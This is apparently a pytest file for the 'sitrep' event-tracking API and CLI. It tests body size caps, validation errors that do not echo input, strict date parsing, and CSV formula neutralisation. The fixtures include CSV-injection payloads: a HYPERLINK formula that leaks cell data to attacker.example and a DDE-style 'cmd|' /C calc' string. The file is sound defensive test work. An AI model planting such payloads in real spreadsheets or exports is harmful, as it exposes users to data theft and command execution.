"""Hostile and malformed input at the edges: request body caps (before auth), validation errors
that never echo what was sent, spreadsheet formulas in CSV exports (CLI and API), and query
parameters / CLI dates that must be refused with a reason instead of a 500 or a silent pass."""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import subprocess
import sys
import threading
import warnings
from datetime import date

import pytest
from typer.testing import CliRunner

from sitrep.cli import app as cli_app
from sitrep.export import COLUMNS, csv_safe, write_acled_csv
from sitrep.merge import merge_documents
from sitrep.models import Document, Event, Source, content_id
from sitrep.store import Store

warnings.filterwarnings("ignore", message=".*starlette.testclient.*")

from starlette.testclient import TestClient  # noqa: E402

from sitrep.api import create_app  # noqa: E402

TOKEN = "limits-token-1"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
FORMULA = '=HYPERLINK("http://attacker.example/x?d="&A1,"Open the source")'

BODY = ("Clashes near Bogota\n\nSoldiers and a dissident armed group clashed outside Bogota on "
        "Sunday, leaving three fighters dead, the army said.")
DOC = Document(id=content_id(BODY), text=BODY, body=BODY, url=FORMULA, title=FORMULA,
               published=date(2022, 8, 15))
CLEAN_BODY = "Protest in Lima\n\nHundreds of teachers marched in Lima on Monday over pay."
CLEAN_DOC = Document(id=content_id(CLEAN_BODY), text=CLEAN_BODY, body=CLEAN_BODY,
                     url="https://news.example/lima", title="Protest in Lima",
                     published=date(2022, 8, 16))


def _events() -> tuple[list[Event], list[Event]]:
    hostile = Event(doc_id=DOC.id, event_type="Battles", sub_event_type="Armed clash",
                    event_date="2022-08-14", actor1="@SUM(1+1)*cmd|' /C calc'!A0", inter1=1,
                    actor2="+Dissident group", inter2=2, country="Colombia", country_code="CO",
                    location="Bogota", latitude=4.60971, longitude=-74.08175, geo_precision=2,
                    fatalities=3, notes=FORMULA, tags="\tsize=no report",
                    sources=[Source(doc_id=DOC.id, outlet="-2+3 News", url=FORMULA)])
    clean = Event(doc_id=CLEAN_DOC.id, event_type="Protests", sub_event_type="Peaceful protest",
                  event_date="2022-08-15", actor1="Protesters (Peru)", inter1=6,
                  country="Peru", country_code="PE", location="Lima", latitude=-12.04318,
                  longitude=-77.02824, geo_precision=1, notes="Teachers marched over pay.")
    return [hostile], [clean]


@pytest.fixture
def store(tmp_path):
    st = Store(tmp_path / "limits.db")
    hostile, clean = _events()
    st.save(DOC, hostile)
    st.save(CLEAN_DOC, clean)
    merge_documents(st)                  # as `sitrep extract` does: reads list incidents
    yield st
    st.close()


def client(store, **kw) -> TestClient:
    return TestClient(create_app(store=store, token=TOKEN, **kw), client=("127.0.0.1", 40000),
                      base_url="http://127.0.0.1:8000")


def _event_id(c, country: str) -> str:
    (ev,) = c.get("/api/events", params={"country": country}).json()["events"]
    return ev["id"]


# ------------------------------------------------------------ request bodies
def test_oversized_body_is_refused_before_auth(store):
    c = client(store, max_body=1000)
    eid = _event_id(c, "Peru")
    big = json.dumps({"action": "confirm", "note": "x" * 5000}).encode()
    r = c.post(f"/api/events/{eid}/review", content=big,
               headers={"Content-Type": "application/json"})          # no token
    assert r.status_code == 413, r.text
    assert "too large" in r.json()["detail"] and "1000 bytes" in r.json()["detail"]
    assert r.headers["x-content-type-options"] == "nosniff"
    # under the cap the request goes on to the token check
    small = c.post(f"/api/events/{eid}/review", json={"action": "confirm"})
    assert small.status_code == 401
    assert c.get("/api/audit").json()["entries"] == []


def test_default_cap_and_env_setting(store, monkeypatch):
    c = client(store)
    eid = _event_id(c, "Peru")
    over = b'{"action": "confirm", "note": "' + b"y" * (1024 * 1024) + b'"}'
    r = c.post(f"/api/events/{eid}/review", content=over, headers=AUTH)
    assert r.status_code == 413 and "1048576 bytes" in r.json()["detail"]
    monkeypatch.setenv("SITREP_MAX_BODY", "200")
    c = client(store)
    r = c.post(f"/api/events/{eid}/review", headers=AUTH,
               json={"action": "confirm", "note": "z" * 300})
    assert r.status_code == 413 and "200 bytes" in r.json()["detail"]
    ok = c.post(f"/api/events/{eid}/review", headers=AUTH, json={"action": "confirm"})
    assert ok.status_code == 200, ok.text


@pytest.mark.parametrize("bad", ["lots", "0", "-5"])
def test_bad_body_cap_setting_is_a_clear_error(store, monkeypatch, bad):
    monkeypatch.setenv("SITREP_MAX_BODY", bad)
    with pytest.raises(ValueError, match="SITREP_MAX_BODY"):
        create_app(store=store, token=TOKEN)
    r = CliRunner().invoke(cli_app, ["serve", "--db", store.url])
    assert r.exit_code == 2 and "SITREP_MAX_BODY" in r.stderr
    assert r.exception is None or isinstance(r.exception, SystemExit)


def test_chunked_body_over_the_cap_is_counted(store):
    c = client(store, max_body=1000)
    eid = _event_id(c, "Peru")

    def chunks():
        yield b'{"action": "confirm", "note": "'
        for _ in range(20):
            yield b"w" * 200
        yield b'"}'

    r = c.post(f"/api/events/{eid}/review", content=chunks(), headers=AUTH)
    assert r.status_code == 413, r.text
    assert c.get("/api/audit").json()["entries"] == []


def _recv_head(sock: socket.socket) -> bytes:
    data = b""
    while b"\r\n\r\n" not in data:
        part = sock.recv(65536)
        if not part:
            break
        data += part
    return data


def test_chunked_body_refused_by_a_real_server_before_it_ends(store):
    """uvicorn, a raw chunked request with no Content-Length: the server answers 413 as soon
    as the count passes the cap, while the client has not even finished the body."""
    import uvicorn

    app = create_app(store=store, token=TOKEN, max_body=4096)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    port = listener.getsockname()[1]
    srv = uvicorn.Server(uvicorn.Config(app, log_level="warning", lifespan="off"))
    th = threading.Thread(target=srv.run, kwargs={"sockets": [listener]}, daemon=True)
    th.start()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=60) as s:
            s.sendall(b"POST /api/events/whatever/review HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                      b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n")
            piece = b"v" * 2000
            for _ in range(3):                      # 6000 bytes: over the cap, body not ended
                s.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
            head = _recv_head(s)
        assert head.startswith(b"HTTP/1.1 413"), head[:200]
        assert b"too large" in head or b"application/json" in head
    finally:
        srv.should_exit = True
        th.join(30)
        listener.close()


def test_validation_errors_do_not_echo_the_input(store):
    c = client(store)
    eid = _event_id(c, "Peru")
    marker = "ECHO-MARKER-" + "q" * 3000
    r = c.post(f"/api/events/{eid}/review", headers=AUTH,
               json={"action": "confirm", "note": marker})          # note is too long
    assert r.status_code == 422
    assert "ECHO-MARKER" not in r.text
    (err,) = r.json()["detail"]
    assert err["loc"] == ["body", "note"] and "2000" in err["msg"] and "input" not in err
    r = c.post(f"/api/events/{eid}/review", headers=AUTH, json={"action": marker})
    assert r.status_code == 422 and "ECHO-MARKER" not in r.text
    assert r.json()["detail"][0]["loc"] == ["body", "action"]
    r = c.post(f"/api/events/{eid}/review", headers=AUTH, content=b'{"action": "ECHO-MARKER',
               )
    assert r.status_code == 422 and "ECHO-MARKER" not in r.text
    # the review's own checks name the field, never the value sent
    for fields in ({"event_type": marker}, {"sub_event_type": marker},
                   {"event_date": marker}, {marker: 1}):
        r = c.post(f"/api/events/{eid}/review", headers=AUTH,
                   json={"action": "correct", "fields": fields})
        assert r.status_code == 400, r.text
        assert "q" * 50 not in r.text, r.text
    r = c.post("/api/events/ECHO-MARKER-" + "q" * 2000 + "/review", headers=AUTH,
               json={"action": "confirm"})
    assert r.status_code == 404 and "q" * 50 not in r.text


# ------------------------------------------------------------ spreadsheet formulas in CSV
FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _check_csv(text: str) -> list[dict]:
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == COLUMNS
    for row in rows[1:]:
        for cell in row:
            assert not (cell.startswith(FORMULA_CHARS) and not _is_number(cell)), cell
    return [dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]]


def _hostile_row(rows: list[dict]) -> dict:
    (row,) = [r for r in rows if r["country"] == "Colombia"]
    assert row["notes"] == "'" + FORMULA
    assert row["document_urls"] == "'" + FORMULA
    assert row["actor1"].startswith("'@SUM") and row["actor2"] == "'+Dissident group"
    assert row["tags"] == "'\tsize=no report" and row["source"] == "'-2+3 News"
    assert row["longitude"] == "-74.08175" and float(row["longitude"]) == -74.08175
    assert row["fatalities"] == "3"
    (peru,) = [r for r in rows if r["country"] == "Peru"]
    assert peru["latitude"] == "-12.04318" and peru["longitude"] == "-77.02824"
    return row


def test_csv_safe_quotes_formulas_not_numbers():
    assert csv_safe(FORMULA) == "'" + FORMULA
    for text in ("+1-800-FORMULA", "-x", "@cmd", "\tTAB", "\rCR", "=1+1", "-", "-1+2"):
        assert csv_safe(text) == "'" + text
    for text in ("-12.5", "+3", "-0.25e3", "Bogota", "", "a=b", "12"):
        assert csv_safe(text) == text


def test_store_export_neutralises_formulas(store):
    buf = io.StringIO(newline="")
    write_acled_csv(store.iter_events(), buf)
    _hostile_row(_check_csv(buf.getvalue()))


def _hostile_incident(rows: list[dict]) -> None:
    """An incident's row: its coding comes from the report (the notes are the merge stage's
    own sentence, which quotes the actor's formula inside, not at the start)."""
    (row,) = [r for r in rows if r["country"] == "Colombia"]
    assert row["actor1"].startswith("'@SUM") and row["actor2"] == "'+Dissident group"
    assert row["document_urls"] == "'" + FORMULA and row["source"] == "'-2+3 News"
    assert row["longitude"] == "-74.08175" and row["fatalities"] == "3"


def test_cli_export_neutralises_formulas(store, tmp_path):
    for args, check in (([], _hostile_incident), (["--reports"], _hostile_row)):
        out = tmp_path / "events.csv"
        r = subprocess.run([sys.executable, "-m", "sitrep.cli", "export", "--db",
                            store.url, "-o", str(out), *args],
                           capture_output=True, text=True, env=dict(os.environ), timeout=600)
        assert r.returncode == 0, r.stderr
        check(_check_csv(out.read_text(encoding="utf-8")))


def test_api_csv_neutralises_formulas_and_review_corrections(store):
    c = client(store)
    _hostile_incident(_check_csv(c.get("/api/events", params={"format": "csv"}).text))
    _hostile_row(_check_csv(c.get("/api/events", params={"format": "csv",
                                                         "level": "reports"}).text))
    eid = _event_id(c, "Peru")
    r = c.post(f"/api/events/{eid}/review", headers=AUTH, json={
        "action": "correct", "fields": {"notes": FORMULA, "location": "@Lima"}})
    assert r.status_code == 200, r.text
    rows = _check_csv(c.get("/api/events", params={"format": "csv"}).text)
    (peru,) = [r for r in rows if r["country"] == "Peru"]
    assert peru["notes"] == "'" + FORMULA and peru["location"] == "'@Lima"
    assert peru["longitude"] == "-77.02824"
    # JSON keeps the reviewed text as it is: only spreadsheets need the quote
    assert c.get(f"/api/events/{eid}").json()["notes"] == FORMULA


# ------------------------------------------------------------ query parameters and dates
HUGE = "99999999999999999999999"


@pytest.mark.parametrize("params,name", [
    ({"offset": HUGE}, "offset"), ({"limit": HUGE}, "limit"),
    ({"min_sources": HUGE}, "min_sources"), ({"min_sources": "1e23"}, "min_sources"),
    ({"format": "csv", "offset": HUGE}, "offset"), ({"format": "geojson", "offset": HUGE},
                                                    "offset"),
    ({"format": "csv", "limit": HUGE}, "limit"), ({"offset": "-1"}, "offset"),
])
def test_out_of_range_numbers_get_422(store, params, name):
    c = client(store)
    r = c.get("/api/events", params=params)
    assert r.status_code == 422, r.text
    assert r.headers["content-type"].startswith("application/json")
    (err,) = r.json()["detail"]
    assert err["loc"] == ["query", name] and err["msg"]


def test_audit_offset_bounded(store):
    r = client(store).get("/api/audit", params={"offset": HUGE})
    assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["query", "offset"]


@pytest.mark.parametrize("bad", ["2020-99-99", "yesterday", "2021-02-29", "2020-01-01T00:00",
                                 "20200101", "2020-1-5"])
@pytest.mark.parametrize("param", ["date_from", "date_to"])
@pytest.mark.parametrize("fmt", ["json", "csv", "geojson"])
def test_bad_dates_get_422(store, bad, param, fmt):
    r = client(store).get("/api/events", params={param: bad, "format": fmt})
    assert r.status_code == 422, r.text
    assert param in r.json()["detail"] and "YYYY-MM-DD" in r.json()["detail"]


def test_good_dates_and_bounds_still_work(store):
    c = client(store)
    got = c.get("/api/events", params={"date_from": "2022-08-15", "date_to": "2024-02-29"})
    assert got.status_code == 200 and [e["country"] for e in got.json()["events"]] == ["Peru"]
    assert c.get("/api/events", params={"offset": 1_000_000_000}).json()["events"] == []
    r = c.get("/api/events", params={"format": "csv", "offset": 1_000_000_000})
    assert r.status_code == 200 and r.text.splitlines() == [",".join(COLUMNS)]
    assert c.get("/api/stats", params={"date_from": "2022-02-30"}).status_code == 422


@pytest.mark.parametrize("args", [["--from", "2020-99-99"], ["--to", "yesterday"],
                                  ["--from", "2020-01-01junk"]])
def test_cli_events_refuses_bad_dates(store, args):
    db = store.url
    r = CliRunner().invoke(cli_app, ["events", "--db", db, *args])
    assert r.exit_code == 2, r.output
    assert r.exception is None or isinstance(r.exception, SystemExit)
    assert args[0] in r.stderr and "YYYY-MM-DD" in r.stderr
    assert "Traceback" not in r.output


def test_cli_events_good_dates(store):
    db = store.url
    r = CliRunner().invoke(cli_app, ["events", "--db", db, "--from", "2022-08-15",
                                     "--to", "2022-08-31"])
    assert r.exit_code == 0, r.output
    assert "Lima" in r.stdout and "Bogota" not in r.stdout and "1 events" in r.stdout


@pytest.mark.parametrize("args", [["alerts", "--as-of", "2020-99-99"],
                                  ["alerts", "--as-of", "2020-01-01junk"],
                                  ["watch", "https://example.org/feed", "--once",
                                   "--published", "2020-01-01junk"],
                                  ["extract", "-", "--published", "last week"]])
def test_every_date_option_is_strict(store, args):
    # one parser (models.parse_day) behind every command's date options
    r = CliRunner().invoke(cli_app, [*args, "--db", store.url], input="")
    assert r.exit_code == 2, r.output
    assert "YYYY-MM-DD" in r.stderr and "Traceback" not in r.output
